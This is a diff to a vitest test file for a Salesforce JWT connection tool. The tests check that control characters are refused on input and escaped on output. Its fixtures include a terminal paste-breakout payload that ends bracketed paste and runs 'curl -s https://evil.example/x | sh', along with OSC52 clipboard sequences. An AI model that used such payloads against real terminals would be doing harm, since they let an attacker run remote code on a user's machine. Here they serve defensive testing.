@@ -1,17 +1,15 @@
-// No control character reaches a terminal or the clipboard: fields are checked on the way in (form,
-// API, imports), a stored bad value is shown escaped and flagged (never dropped), and everything
+// No control character reaches a terminal: fields are checked on the way in (form, API, CLI flags,
+// imports), a stored bad value is shown escaped and flagged (never dropped), and everything
 // written for a terminal or a paste passes the one sanitiser (shared/safe-text.ts).
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openNodeServices } from '../../electron/connections/open-node.js';
 import { checkTokenUrls } from '../../electron/salesforce/token-answer.js';
-import { asCurlIdentity, asEnvironmentVariables, asSfLoginCommand } from '../../renderer/copy-as.js';
-import { escapeField, escapeForTerminal, escapeJson } from '../../shared/safe-text.js';
 import { fieldProblem } from '../../shared/field-rules.js';
 import type { SalesforceEmulator } from '../emulator/salesforce-emulator.js';
-import { CONSUMER_KEY, failure, startEmulator } from './helpers.js';
-import { cli, drafts, makeDataDir, tempDir } from './cli-helpers.js';
+import { CONSUMER_KEY, failure, startEmulator } from '../support/helpers.js';
+import { cli, drafts, makeDataDir, tempDir } from '../support/cli-helpers.js';
 
 const ESC = '\u001b';
 /** Ends a bracketed paste early, wipes the line the user sees (Ctrl-U), then runs a command. */
@@ -37,21 +35,6 @@ function exportWith(field: string, value: string): string {
   };
   return JSON.stringify({ format: 'jwt-connect-connections', version: 2, exportedAt: '2026-01-01T00:00:00.000Z', connections: [connection] });
 }
-
-describe('the sanitiser', () => {
-  it('shows every control and bidi character as a visible escape; a block keeps its lines', () => {
-    expect(escapeField(`a${ESC}[31mb\u202ec\nd`)).toBe('a\\x1b[31mb\\u{202e}c\\x0ad');
-    expect(escapeForTerminal(`line 1\n\tline 2${ESC}]52;c;x\u0007\r\u009b`)).toBe('line 1\n\tline 2\\x1b]52;c;x\\x07\\x0d\\x9b');
-    expect(escapeField('Zürich — 東京 integration@acme.com')).toBe('Zürich — 東京 integration@acme.com');
-  });
-
-  it('keeps JSON readable as JSON: the characters JSON.stringify leaves raw become \\u escapes', () => {
-    const value = `x\u009b31m\u202e\u007f${ESC}`;
-    const json = escapeJson(JSON.stringify({ value }));
-    expect(json).not.toMatch(RAW);
-    expect(JSON.parse(json)).toEqual({ value });
-  });
-});
 
 describe('fields on the way in', () => {
   it('refuses control and bidi characters in every field of the form, naming the field', async () => {
@@ -190,19 +173,5 @@ describe('a stored bad value (an old store, a hand-edited file)', () => {
     expect(all.stdout).toMatch(/^FAIL Evil\\x1b\[201~\\x15curl .* ms: Salesforce refused the login/m);
     expect(all.stdout + all.stderr).not.toMatch(RAW);
     expect(all.stdout.split('\n').filter((l) => l.startsWith('Prod '))).toEqual([]); // the spoofed row never starts a line
-  });
-});
-
-describe('Copy as… and token --env', () => {
-  it('a hostile consumer key, username or identity URL is pasted as visible text, never as keystrokes', () => {
-    const sf = asSfLoginCommand({ consumerKey: `3MVG9${PASTE_BREAKOUT}`, username: `u@x.com${OSC52}`, environment: 'mydomain', myDomainUrl: `https://a.my.salesforce.com${SPOOF}` });
-    expect(sf).not.toMatch(RAW);
-    expect(sf).toContain("--client-id '3MVG9\\x1b[201~\\x15curl -s https://evil.example/x | sh\\x0a'");
-    expect(sf.split('\n')).toHaveLength(6); // five lines of the command and the final newline: none added
-    const facts = { accessToken: `00D!tok${ESC}[201~`, instanceUrl: 'https://a.my.salesforce.com', id: `https://a.my.salesforce.com/id/00D/005${PASTE_BREAKOUT}` };
-    for (const text of [asCurlIdentity(facts), asEnvironmentVariables(facts)]) {
-      expect(text).not.toMatch(RAW);
-      expect(text.trimEnd().split('\n').length).toBeLessThanOrEqual(2);
-    }
   });
 });
